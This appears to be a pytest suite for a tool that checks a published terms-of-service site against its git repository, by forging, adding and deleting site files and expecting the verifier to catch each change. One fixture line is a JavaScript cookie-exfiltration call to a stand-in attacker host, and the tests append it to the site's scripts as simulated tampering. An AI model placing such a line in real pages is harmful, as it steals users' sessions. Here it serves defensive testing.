"""What a site publishes beside texts and pages: forged and sealed anew, the repository tells."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import replace as replace_values
from functools import cache
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import settings as choose
from hypothesis import strategies as st

from clausier.cli import main
from clausier.git import read_contents, read_snapshot
from clausier.settings import parse_settings
from clausier.sources import open_repository
from clausier.verification import Report, Repository
from clausier.verification.copies import list_copies
from clausier.words import load_words
from copies import Copy, outcomes, told
from repositories import EN, ENGLISH, page, pin_environment
from repositories import Repository as Git
from sites import ROOT, publish, start_site
from test_verification import DAY, FILES, STAGES, forge_text, write

STEAL = b"\nfetch('https://evil.example/?' + document.cookie);\n"
PICTURE = b"\x89PNG\r\n\x1a\n"


def make_whole(path: Path) -> Git:
    """A repository that holds all that its site is built from."""
    repository = start_site(path, FILES)
    shutil.copytree(ROOT / "overrides", path / "overrides")
    configuration = path / "mkdocs.yml"
    values: dict[str, Any] = yaml.safe_load(configuration.read_text())
    values["theme"]["custom_dir"] = "overrides"
    values["extra"]["clausier"]["security_contact"] = "mailto:securite@terms.example"
    configuration.write_text(yaml.safe_dump(values, sort_keys=False))
    pictures = {"docs/fr/plan.png": PICTURE, "docs/logo.png": PICTURE + b"logo"}
    repository.commit({".gitignore": "/site/\n/.site.*\n/.cache/\n", **pictures})
    for month, stage in enumerate(STAGES, 1):
        repository.commit(stage, at=f"2026-0{month}-10T10:00:00+01:00")
    corrected = page("2.0", ENGLISH + "\n1.2. In euros.\n", date="2026-07-01")
    repository.commit({EN: corrected}, at="2026-05-10T10:00:00+02:00")
    return repository


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory) -> Git:
    return make_whole(tmp_path_factory.mktemp("whole") / "r")


@pytest.fixture(scope="module")
def site(repository: Git) -> Copy:
    return Copy.of(publish(repository, DAY).site)


@pytest.fixture(scope="module")
def read(repository: Git) -> Callable[[str], Repository]:
    """What verification reads the repository with; each commit once for all tests."""
    return cache(open_repository(repository.path, {}))


@pytest.fixture(autouse=True)
def pinned(monkeypatch: pytest.MonkeyPatch) -> None:
    pin_environment(monkeypatch)
    monkeypatch.setenv("CLAUSIER_AS_OF", DAY)
    monkeypatch.setenv("CLAUSIER_LANG", "en")


def found(report: Report) -> set[tuple[str, str]]:
    """Return the code and address of each thing that the comparison of data found."""
    [data] = [check for check in report.checks if check.name == "data"]
    return {(one.code.value, one.address) for one in data.findings}


def test_a_site_holds_of_which_the_commit_holds_all(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    report = site.verify(read_repository=read)
    assert told(report) == []
    detail = str(report.checks[-1].detail)
    copied = [name for name in site.files if name.split("/")[0] in THEIRS]
    count = len({*copied, "assets/favicon.svg", "plan.png", "logo.png"})
    assert f" and {count} that are copied, byte for byte" in detail
    assert "hold" not in detail


THEIRS = {"clients", "javascripts", "stylesheets"}


def append(name: str, content: bytes = STEAL) -> Callable[[Copy], Copy]:
    return lambda copy: copy.put(name, copy.files[name] + content)


def replace(name: str, old: str, new: str) -> Callable[[Copy], Copy]:
    return lambda copy: copy.replace(name, old, new)


def edit(name: str, key: str, value: object) -> Callable[[Copy], Copy]:
    return lambda copy: copy.edit(name, lambda values: values.update({key: value}))


ALTERED = [
    ("git-data", "llms-full.txt", replace("llms-full.txt", "paie", "ne paie pas")),
    ("git-data", "llms.txt", append("llms.txt", b"\n- [Autre](https://evil.example/)\n")),
    ("git-data", "feed.xml", replace("feed.xml", "1.1", "1.2")),
    ("git-data", "en/feed.json", edit("en/feed.json", "title", "Evil")),
    ("git-data", "cgu/feed.json", edit("cgu/feed.json", "items", [])),
    ("git-data", "calendar.ics", replace("calendar.ics", "20260701", "20270701")),
    (
        "git-data",
        "api/v1/cgu/timemap/fr.link",
        replace("api/v1/cgu/timemap/fr.link", "2024", "2023"),
    ),
    (
        "git-data",
        "api/v1/cgu/compare/1.0/1.1.json",
        edit("api/v1/cgu/compare/1.0/1.1.json", "identical", True),
    ),
    ("git-data", "api/v1/openapi.json", edit("api/v1/openapi.json", "openapi", "3.0.0")),
    ("git-data", "terms.schema.json", edit("terms.schema.json", "title", "Evil")),
    ("git-data", ".well-known/api-catalog", append(".well-known/api-catalog", b" ")),
    (
        "git-data",
        ".well-known/security.txt",
        replace(".well-known/security.txt", "securite@", "evil@"),
    ),
    ("git-copy", "clients/clausier.js", append("clients/clausier.js")),
    ("git-copy", "clients/terms-notice.js", append("clients/terms-notice.js")),
    ("git-copy", "javascripts/clausier.js", append("javascripts/clausier.js")),
    ("git-copy", "stylesheets/clausier.css", append("stylesheets/clausier.css", b"*{color:red}")),
    ("git-copy", "plan.png", append("plan.png")),
    ("git-copy", "logo.png", append("logo.png")),
]


def test_the_earlier_wording_of_a_translation_is_compared_too(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    earlier = f"en/cgu/versions/2.0/cgu-2.0.en.{sha256(ENGLISH.encode()).hexdigest()[:12]}.md"
    assert site.files[earlier] == ENGLISH.encode()
    forged = site.put(earlier, b"# Terms\n").reseal()
    assert found(forged.verify(read_repository=read)) == {("git-data", earlier)}


@pytest.mark.parametrize(("code", "name", "forge"), ALTERED, ids=[case[1] for case in ALTERED])
def test_a_file_that_was_forged_and_sealed_anew_is_found_out(
    site: Copy,
    read: Callable[[str], Repository],
    code: str,
    name: str,
    forge: Callable[[Copy], Copy],
) -> None:
    forged = forge(site).reseal()
    assert forged.files[name] != site.files[name]
    report = forged.verify(read_repository=read)
    assert outcomes(report)["files"] == "held"
    assert found(report) == {(code, name)}
    assert report.exit_code == 1
    assert_french(report)


def assert_french(report: Report) -> None:
    french = load_words("fr").gettext
    for check in report.checks:
        for finding in check.findings:
            assert finding.what.render(french) != str(finding.what)
            assert finding.remedy.render(french) != str(finding.remedy)


def below(site: Copy, folder: str) -> set[str]:
    return {name for name in site.files if name.startswith(folder)}


@pytest.mark.parametrize(
    "gone",
    [
        "api/v1/cgu/clauses/",
        "llms-full.txt",
        "en/llms.txt",
        "cgu/feed.json",
        "en/calendar.ics",
        "api/v1/cgu/timemap/en.link",
        "api/v1/openapi.json",
        "sitemap.xml",
        "404.html",
        "en/404.html",
    ],
)
def test_what_every_site_has_is_missed_without_a_repository_too(
    site: Copy, read: Callable[[str], Repository], gone: str
) -> None:
    names = below(site, gone)
    assert names
    forged = site.without(*names).reseal()
    report = forged.verify()
    [answers] = [check for check in report.checks if check.name == "answers"]
    missed = {one.address for one in answers.findings if one.code.value == "file-missing"}
    assert missed == names
    assert found(forged.verify(read_repository=read)) == {("file-missing", n) for n in names}


@pytest.mark.parametrize(
    "gone",
    [
        "clients/",
        "stylesheets/",
        "plan.png",
        "cgu/compare/1.0/1.1/index.html",
        "en/api/v1/index.",
        "search/",
    ],
)
def test_what_the_repository_publishes_is_missed(
    site: Copy, read: Callable[[str], Repository], gone: str
) -> None:
    names = below(site, gone)
    assert names
    report = site.without(*names).reseal().verify(read_repository=read)
    assert found(report) == {("file-missing", name) for name in names}


@pytest.mark.parametrize(
    "name",
    [
        "cgu/versions/9.9/index.html",
        "en/cgu/compare/1.0/9.9/index.html",
        "cgu/clauses/art-9/index.html",
        "cgu/more.html",
        "cgu.html",
        "en/cgu.html",
        "de/cgu/index.html",
        "de/autre/versions/1.0/index.html",
        "autre/index.html",
        "autre/versions/1.0/index.html",
        "api/v1/more.txt",
        "api/v1/cgu/timemap/de.link",
        "clients/more.js",
        "cgu/versions/1.0/cgu-1.0.de.md",
        "guide/more.md",
        "guide/feed.xml",
        ".well-known/more",
        "admin/index.html",
        "assets/evil.js",
        "assets/x/evil.html",
        "javascripts/evil.js",
        "stylesheets/evil.css",
        "search/evil.js",
        "en/search/search_index.json",
        "en/assets/evil.js",
        "en/sitemap.xml",
        "guide/evil.js",
        "guide/more/index.html",
        "terms.more.json",
        "evil.js",
        "pay.html",
        "pay",
    ],
)
def test_a_file_that_was_added_and_sealed_is_found_out(
    site: Copy, read: Callable[[str], Repository], name: str
) -> None:
    assert name not in site.files
    report = site.put(name, b"x").reseal().verify(read_repository=read)
    assert ("git-foreign", name) in found(report)
    assert len(found(report)) == 1
    assert_french(report)


@pytest.mark.parametrize(
    ("name", "is_its_own"),
    [
        ("admin/index.html", True),
        ("admin/config.json", True),
        ("admin/cms/npm/index.js", True),
        ("admin/cms/locales/fr.js", True),
        ("admin/cms/evil.js", False),
        ("admin/evil.html", False),
        ("admin/start.js/evil.js", False),
    ],
)
def test_the_form_has_its_own_files_alone(
    site: Copy, read: Callable[[str], Repository], name: str, *, is_its_own: bool
) -> None:
    values = {"backend": "github", "repo": "maison/conditions", "branch": "main"}

    def read_with_form(commit: str) -> Repository:
        whole = read(commit)
        editor = parse_settings({"publisher": "M", "editor": values}, ("fr", "en")).editor
        return replace_values(whole, settings=replace_values(whole.settings, editor=editor))

    report = site.put(name, b"x").reseal().verify(read_repository=read_with_form)
    assert found(report) == (set() if is_its_own else {("git-foreign", name)})


@pytest.mark.parametrize(
    "name",
    [
        *("index.html", "en/404.html", "cgu/versions/1.0/index.html"),
        *("sitemap.xml", "search/search_index.json"),
    ],
)
@pytest.mark.parametrize("content", [b"", b" \n"])
def test_a_page_that_is_empty_is_found_out(site: Copy, name: str, content: bytes) -> None:
    assert site.files[name]
    report = site.put(name, content).reseal().verify()
    assert told(report) == [f"files: {name} is empty, as no build leaves it"]
    assert_french(report)


def test_a_page_of_any_name_that_mkdocs_takes_is_the_repository_s(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    def read_more(commit: str) -> Repository:
        whole = read(commit)
        return replace_values(whole, docs={**whole.docs, "fr/more.markdown": b"# More"})

    more = site.put("more/index.html", b"x").reseal()
    assert found(more.verify(read_repository=read_more)) == set()
    assert found(more.verify(read_repository=read)) == {("git-foreign", "more/index.html")}


def test_without_search_there_is_no_index_of_it(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    def read_without(commit: str) -> Repository:
        return replace_values(read(commit), has_search=False)

    name = "search/search_index.json"
    assert found(site.without(name).reseal().verify(read_repository=read_without)) == set()
    assert found(site.verify(read_repository=read_without)) == {("git-foreign", name)}


def test_a_theme_that_the_commit_does_not_hold_has_no_pages(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    def read_without(commit: str) -> Repository:
        return replace_values(read(commit), theme=None)

    assert found(site.verify(read_repository=read_without)) == set()
    for name in ("assets/evil.html", "evil.js", "search/evil.js", "en/assets/evil.js"):
        report = site.put(name, b"x").reseal().verify(read_repository=read_without)
        assert found(report) == {("git-foreign", name)}


def test_a_site_that_was_moved_elsewhere_is_found_out(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    ours, theirs = b"https://terms.example/", b"https://evil.example/"
    moved = Copy({name: raw.replace(ours, theirs) for name, raw in site.files.items()}).reseal()
    assert told(moved.verify()) == [], "nothing else can tell"
    report = moved.verify(read_repository=read)
    assert ("git-root", "terms.json") in found(report)
    said = "of a site at https://evil.example/, but the repository publishes"
    assert any(said in line for line in told(report))
    assert_french(report)


def test_what_github_pages_looks_for_holds_nothing(site: Copy) -> None:
    assert told(site.put(".nojekyll", b"").verify()) == []
    report = site.put(".nojekyll", b"x").verify()
    [line] = told(report)
    assert line.startswith("files: .nojekyll is not empty")
    assert_french(report)


@given(st.data())
@choose(max_examples=25, deadline=None)
def test_no_byte_of_what_is_made_or_copied_can_be_forged(
    site: Copy, read: Callable[[str], Repository], data: st.DataObject
) -> None:
    names = [
        name
        for name in site.covered()
        if not name.endswith((".html", ".pdf")) and name not in UNCOVERED
    ]
    name = data.draw(st.sampled_from(names))
    place = data.draw(st.integers(0, len(site.files[name]) - 1))
    forged = site.flip(name, place, data.draw(st.integers(1, 255))).reseal()
    report = forged.verify(read_repository=read)
    assert report.exit_code == 1, name
    assert any(name in line for line in told(report)), (name, told(report))


UNCOVERED = {
    *("sitemap.xml", "search/search_index.json"),
    *("terms.json", "terms.json.sha256", "checksums.txt"),  # which sealing writes anew
}


def test_what_another_version_of_clausier_made_is_one_finding(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    names = [name for name in site.files if name.startswith("api/v1/cgu/clauses/")]
    names += [name for name in site.files if "feed." in name or "/compare/" in name]
    names = sorted(name for name in names if name.endswith((".json", ".xml")))
    assert len(names) > 20
    other = Copy({**site.files, **{name: site.files[name] + b"\n" for name in names}}).reseal()
    report = other.verify(read_repository=read)
    assert found(report) == {("git-tool", names[0])}
    assert f"and {len(names) - 1} other files are not what this version" in "".join(told(report))
    assert_french(report)
    report = forge_text(other).reseal().verify(read_repository=read)
    assert {("git-data", name) for name in names} <= found(report), "each, where a text is forged"


def test_the_settings_are_those_of_the_commit(site: Copy, tmp_path: Path) -> None:
    repository = make_whole(tmp_path / "r")
    configuration = repository.path / "mkdocs.yml"
    moved = configuration.read_text().replace("https://terms.example/", "https://evil.example/")
    assert moved != configuration.read_text()
    configuration.write_text(moved)
    (repository.path / "overrides" / "clients" / "clausier.js").write_text("alert(1)")
    report = site.verify(read_repository=open_repository(repository.path, {}))
    assert told(report) == [], "the working tree is not asked"


def test_settings_that_the_commit_does_not_hold_are_named(site: Copy, tmp_path: Path) -> None:
    repository = start_site(tmp_path / "r", FILES)
    built = publish(repository, DAY).site
    arguments = ["verify", str(built), "--git", str(repository.path)]
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code == 0, result.output
    words = " ".join(result.stdout.split())
    assert "scripts, styles and clients were not compared" in words
    assert "by mkdocs.yml as it stands, since that commit does not hold it" in words
    french = " ".join(CliRunner().invoke(main, [*arguments, "--lang", "fr"]).stdout.split())
    assert "d’après mkdocs.yml tel qu’il est" in french


def test_the_table_tells_what_was_forged(site: Copy, repository: Git, tmp_path: Path) -> None:
    forged = append("clients/clausier.js")(site).reseal()
    arguments = ["verify", str(write(forged, tmp_path)), "--git", str(repository.path)]
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code == 1
    words = " ".join(result.stdout.split())
    assert "FAILED data" in words
    assert "- clients/clausier.js is not the file that the repository holds." in words
    value = json.loads(CliRunner().invoke(main, [*arguments, "--json"]).stdout)
    assert value["checks"][-1]["name"] == "data"
    assert value["checks"][-1]["findings"][0]["code"] == "git-copy"


def test_a_file_that_git_keeps_elsewhere_is_known_by_its_digest(
    site: Copy, read: Callable[[str], Repository]
) -> None:
    digest = sha256(PICTURE).hexdigest()
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{digest}\nsize 8\n"

    def read_pointer(commit: str) -> Repository:
        whole = read(commit)
        return replace_values(whole, docs={**whole.docs, "fr/plan.png": pointer.encode()})

    assert found(site.verify(read_repository=read_pointer)) == set()
    forged = append("plan.png")(site).reseal()
    assert found(forged.verify(read_repository=read_pointer)) == {("git-copy", "plan.png")}


# What is read of a commit


def test_a_commit_gives_plain_files_alone(tmp_path: Path) -> None:
    repository = Git.create(tmp_path / "r")
    (repository.path / "docs" / "lien.png").symlink_to("plan.png")
    commit = repository.commit({"docs/plan.png": PICTURE, "docs/é à.md": "# Page\n"})
    repository.write({"docs/plan.png": b"other"})
    snapshot = read_snapshot(repository.path / "docs", commit)
    assert snapshot.list_below("docs") == ("docs/plan.png", "docs/é à.md")
    assert snapshot.locate(repository.path / "docs") == "docs"
    assert snapshot.locate(repository.path) == ""
    assert snapshot.locate(tmp_path) is None
    assert read_contents(snapshot, ["docs/plan.png"]) == {"docs/plan.png": PICTURE}
    assert read_contents(snapshot, []) == {}


def test_files_are_published_where_their_language_is() -> None:
    docs = {
        "fr/plan.png": b"1",
        "en/a/plan.png": b"2",
        "logo.png": b"3",
        "de/plan.png": b"4",
        "fr/.x": b"5",
        "templates/x": b"6",
        "fr/page.md": b"7",
    }
    theme = {"x.js": b"8", "x.html": b"9", ".x": b"10", "a/README.txt": b"11", "logo.png": b"12"}
    copies = list_copies(docs, theme, ("fr", "en"), leaves_out=False)
    assert copies.required == {"plan.png", "en/a/plan.png", "logo.png", "x.js"}
    assert {name: copies.contents[name] for name in copies.required} == {
        "plan.png": b"1",
        "en/a/plan.png": b"2",
        "logo.png": b"3",
        "x.js": b"8",
    }
    assert set(copies.contents) - copies.required == {*("de/plan.png", ".x", "templates/x")}
    copies = list_copies(docs, theme, ("fr", "en"), leaves_out=True)
    assert copies.required == {"x.js", "logo.png"}, "the theme's; the page's may be left out"
